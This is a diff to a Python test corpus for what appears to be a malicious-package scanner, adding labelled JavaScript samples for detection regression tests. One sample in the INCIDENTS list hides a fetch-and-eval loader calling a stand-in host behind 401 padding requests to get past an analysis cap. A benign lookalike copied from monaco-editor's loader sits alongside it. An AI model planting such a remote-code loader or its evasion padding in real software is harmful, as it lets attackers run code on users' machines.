@@ -10,6 +10,21 @@ _FILLER = "".join(f"function helper{i}(x) {{ return x + {i}; }}\n" for i in rang
 
 INCIDENTS: list[Replica] = [
     Replica(
+        # A loader hidden among more network calls than the data-flow pass follows (its sink cap): the text
+        # shows fetched data compiled, and that is what is left to judge it by.
+        "fetch-eval-past-flow-cap",
+        {
+            "index.js": (
+                "const https = require('https');\n"
+                + "https.get('https://api.example.com/ping');\n" * 401
+                + "https.get('https://stage.invalid/p', (r) => { let d = ''; r.on('data', (c) => (d += c)); "
+                "r.on('end', () => eval(d)); });\n"
+            )
+        },
+        "block",
+        frozenset({"eval-remote-code"}),
+    ),
+    Replica(
         # The counterpart of the compilers below: the decoding helper takes a parameter, but the package
         # itself calls it with its embedded payload, so the decoded code is the package's, not a caller's.
         "decoder-helper-called-with-embedded-payload",
@@ -148,11 +163,31 @@ BENIGN: list[Replica] = [
         "allow",
         frozenset(),
     ),
+    Replica(
+        # monaco-editor dev/vs/loader.js: the AMD loader fetches the module its caller names from the page's
+        # own origin and evaluates it (the "monaco's same-origin loader" false block).
+        "monaco-same-origin-loader",
+        {
+            "index.js": (
+                "function load(url, callback, errorback) {\n"
+                "  if (!(/^((http:)|(https:)|(file:))/.test(url) && url.substring(0, self.origin.length) !== self.origin)) {\n"
+                "    fetch(url).then((o) => { if (o.status !== 200) throw new Error(o.statusText); return o.text(); })\n"
+                "      .then((o) => { o = `${o}\\n//# sourceURL=${url}`; new Function(o).call(self); callback(); })\n"
+                "      .then(void 0, errorback);\n"
+                "  }\n"
+                "}\n"
+                "module.exports = { load };\n"
+            )
+        },
+        "allow",
+        frozenset(),
+    ),
 ]
 
 LOOKALIKES: dict[str, tuple[str, ...]] = {
     "js-reverse-shell": ("bundle-socket-and-shell-far-apart",),
     "steganography": ("bundle-runs-user-script-and-checks-favicon",),
+    "eval-remote-code": ("monaco-same-origin-loader",),
     "eval-decoded-payload": (
         "webpack-eval-devtool-module",
         "compiler-of-caller-source",
